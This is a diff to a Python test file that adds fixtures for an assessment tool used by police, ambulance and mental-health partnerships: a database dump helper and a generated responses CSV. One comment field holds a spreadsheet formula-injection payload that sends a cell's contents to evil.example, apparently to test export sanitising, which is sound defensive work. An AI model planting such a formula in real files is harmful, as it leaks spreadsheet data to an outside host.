@@ -150,3 +150,68 @@ def empty_sqlite(tmp_path) -> Iterator[Engine]:
     engine = _sqlite_engine(tmp_path, "restored.db")
     yield engine
     engine.dispose()
+
+
+def dump_tables(engine: Engine) -> dict[str, list[tuple]]:
+    """Every row of every table, ordered by primary key (to compare databases exactly)."""
+    from assessment.storage.models import Base
+
+    with engine.connect() as connection:
+        return {table.name: [tuple(row) for row in connection.execute(
+                    table.select().order_by(*table.primary_key.columns))]
+                for table in Base.metadata.sorted_tables}
+
+
+@pytest.fixture
+def table_dump():
+    """``table_dump(engine)``: every row of every table (see :func:`dump_tables`)."""
+    return dump_tables
+
+
+# -- a valid responses file on the mini questionnaire ----------------------------------------------------------
+
+ITEMS = ["governance.joint_board", "governance.escalation", "triage.clinician", "triage.referral_routes",
+         "safety.hbpos", "safety.handover", "safety.conveyance"]
+# Nine respondents, three per agency, so no agency figure is suppressed (min_group_size 3).
+PEOPLE = [("p1", "police"), ("p2", "police"), ("p3", "police"),
+          ("m1", "mental_health_trust"), ("m2", "mental_health_trust"), ("m3", "mental_health_trust"),
+          ("a1", "ambulance"), ("a2", "ambulance"), ("a3", "ambulance")]
+ADMIN = "board.secretary@example.org"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"evidence")'
+REPEAT = "-3 repeat callers since the joint rota began"
+
+
+def _responses_csv(round_value: str = "kent-2026-h1") -> str:
+    """A complete, valid responses file; values cycle 1..5 with one NA and one DK."""
+    lines = ["partnership,round,respondent,agency,item,value,comment"]
+    for n, (who, agency) in enumerate(PEOPLE):
+        for i, item in enumerate(ITEMS):
+            value = str((n + i) % 5 + 1)
+            comment = ""
+            if (who, item) == ("p1", "safety.hbpos"):
+                value = "NA"
+            if (who, item) == ("m2", "triage.clinician"):
+                value = "DK"
+            if (who, item) == ("p1", "governance.joint_board"):
+                comment = '"' + HYPERLINK.replace('"', '""') + '"'
+            if (who, item) == ("a1", "triage.referral_routes"):
+                comment = REPEAT
+            lines.append(f"kent,{round_value},{who},{agency},{item},{value},{comment}")
+    return "\n".join(lines) + "\n"
+
+
+_responses_csv.items = ITEMS
+_responses_csv.hyperlink = HYPERLINK
+_responses_csv.repeat = REPEAT
+
+
+@pytest.fixture
+def responses_csv():
+    """``responses_csv(round_value="kent-2026-h1")`` -> the text of a valid responses file for Kent."""
+    return _responses_csv
+
+
+@pytest.fixture
+def snapshot(db):
+    """``snapshot()`` -> the whole database as data, to show that a refused change left it as it was."""
+    return lambda: dump_tables(db.engine)
